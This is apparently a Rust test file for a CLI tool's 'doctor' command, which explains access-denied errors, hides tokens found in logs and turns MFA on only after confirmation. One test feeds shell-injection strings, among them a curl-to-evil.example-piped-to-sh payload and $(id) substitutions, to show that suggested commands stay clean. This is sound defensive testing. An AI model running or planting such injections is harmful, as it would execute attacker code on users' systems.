//! `fob doctor`: errors read from files and pipes, checked against a real sandbox, and mended.

#![allow(clippy::expect_used, reason = "a test fails by panicking")]

mod support;

use serde_json::{Value, json};
use support::platform::{ADA, Platform};
use support::{Fob, fob};

const DENIED: &str = "remote: Error: Access denied\n\
    remote: Service: abcdefg123456-main-bvxea6i--app\n\
    remote: User: ada (00000000-0000-0000-0000-000000000000)\n\
    remote: Parameters: {\"amr\":[\"mfa\"]}\n";

fn steps(finding: &Value) -> Vec<&str> {
    let steps = finding["steps"].as_array().expect("steps").iter();
    steps
        .map(|step| step["remedy"].as_str().expect("a name"))
        .collect()
}

#[test]
fn an_error_is_explained_without_any_vault() {
    let ran = fob(&["doctor", "--offline"], DENIED).ends(0);
    for words in [
        "Line 1:",
        "  | Error: Access denied",
        "signed in with MFA",
        "$ fob enrol  (if MFA is off)",
        "$ fob account renew",
    ] {
        assert!(ran.stdout.contains(words), "{words}: {}", ran.stdout);
    }
    let found = fob(&["doctor", "-", "--json"], DENIED).ends(0).json();
    assert_eq!(found["understood"], true);
    let finding = &found["findings"][0];
    assert_eq!(finding["symptom"], "ssh_authentication");
    assert_eq!(finding["service"], "abcdefg123456-main-bvxea6i--app");
    assert_eq!(finding["asked"], json!({"amr": ["mfa"], "max_age": null}));
    assert_eq!(steps(finding), ["enrol", "sign_in", "new_certificate"]);
    assert_eq!(finding["steps"][0]["only_if"], "mfa_off");
}

/// What is printed to be run holds nothing of the text that a shell would read.
#[test]
fn a_hostile_text_gives_no_hostile_command() {
    let block = |parameters: &str| DENIED.replace(r#"{"amr":["mfa"]}"#, parameters);
    let texts = [
        block(r#"{"amr":["sso:a';curl${IFS}evil.example|sh;'"]}"#),
        r#"Parameters: {"amr":["mfa","sso:`id`","sso:$(id)","sso:&&id","a;b"]}"#.to_owned(),
        "www-authenticate: Bearer error=\"insufficient_user_authentication\", amr=\"sso:';id;' sso:acme\", max_age=\"300\"".to_owned(),
        r#"{"error":"insufficient_user_authentication","amr":["sso:';id;'"],"max_age":"300;id"}"#.to_owned(),
        "Single sign-on (SSO) is required.\n\nPlease log in by running:\n    upsun login --method 'sso:$(id)|sh'".to_owned(),
    ];
    for text in texts {
        let found = fob(&["doctor", "--offline", "--json"], &text)
            .ends(0)
            .json();
        let findings = found["findings"].as_array().expect("findings");
        let commands: Vec<&str> = findings
            .iter()
            .flat_map(|finding| finding["steps"].as_array().expect("steps"))
            .filter_map(|step| step["command"].as_str())
            .collect();
        assert!(!commands.is_empty(), "{text}: {found}");
        for command in commands {
            let plain = |c: char| c.is_ascii_alphanumeric() || " -:*_.,@".contains(c);
            assert!(command.chars().all(plain), "{text}: {command}");
        }
    }
}

#[test]
fn what_is_not_known_is_said() {
    let ran = fob(&["doctor"], "Everything up-to-date\n").ends(1);
    assert_eq!(
        ran.stdout,
        "Nothing in this text is an error that is known here.\n"
    );
    let missing = fob(&["doctor", "/nowhere/build.log"], "").ends(1);
    assert!(
        missing.stderr.starts_with("error: the file cannot be read"),
        "{}",
        missing.stderr
    );
    fob(&["doctor", "--offline", "--fix"], DENIED).ends(2);
}

#[test]
fn a_secret_in_a_log_is_told_and_never_printed() {
    let fob = Fob::new();
    let secret = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl";
    let log = fob.file("build.log");
    std::fs::write(&log, format!("Authorization: Bearer {secret}\n{DENIED}")).expect("written");
    for form in [&["--json"][..], &[]] {
        let ran = fob
            .bare(
                &[&["doctor", log.to_str().expect("UTF-8")], form].concat(),
                "",
            )
            .ends(0);
        assert!(
            ran.stdout.contains("this text contains an access token"),
            "{}",
            ran.stdout
        );
    }
    assert!(!fob.printed().contains("c2lnbmF0dXJl"));
}

#[test]
fn the_account_is_checked_and_mended() {
    let (platform, fob) = (Platform::start(), Fob::with_vault());
    platform.connect(&fob);
    let named = DENIED.replace("00000000-0000-0000-0000-000000000000", "USER ID");

    let found = fob.json(&["doctor"], &named);
    assert_eq!(found["account"]["email"], ADA);
    assert_eq!(found["facts"]["account_mfa"]["value"], false, "{found}");
    assert_eq!(found["facts"]["session"]["value"]["by_api_token"], true);
    assert_eq!(
        found["facts"]["tokens_before_mfa"]["value"], 1,
        "the token that connected it"
    );
    assert_eq!(
        steps(&found["findings"][0]),
        ["enrol", "new_token", "new_certificate"]
    );

    let other = fob.run(&["doctor"], DENIED).ends(0);
    assert!(
        other
            .stdout
            .contains("names a user who is not connected here"),
        "{}",
        other.stdout
    );

    let unasked = fob.run(&["doctor", "--fix"], &named).ends(2);
    assert!(
        unasked.stderr.contains("this needs a yes"),
        "{}",
        unasked.stderr
    );
    let fixed = fob.run(&["doctor", "--fix", "--yes"], &named).ends(0);
    assert!(fixed.stderr.contains("MFA is on"), "{}", fixed.stderr);

    let found = fob.json(&["doctor"], &named);
    assert_eq!(found["facts"]["account_mfa"]["value"], true);
    assert_eq!(
        steps(&found["findings"][0]),
        ["new_token", "new_certificate"],
        "the token was made before"
    );
}

#[test]
fn a_platform_that_is_not_there_leaves_facts_unknown() {
    let fob = Fob::with_vault();
    {
        let platform = Platform::start();
        platform.connect(&fob);
    }
    let found = fob.json(&["doctor"], "Permission denied (publickey).\n");
    assert_eq!(
        found["facts"]["account_mfa"],
        json!({"value": null, "why_unknown": "offline"}),
        "{found}"
    );
    assert_eq!(
        found["facts"]["session"]["value"]["by_api_token"], true,
        "known without the platform"
    );
}
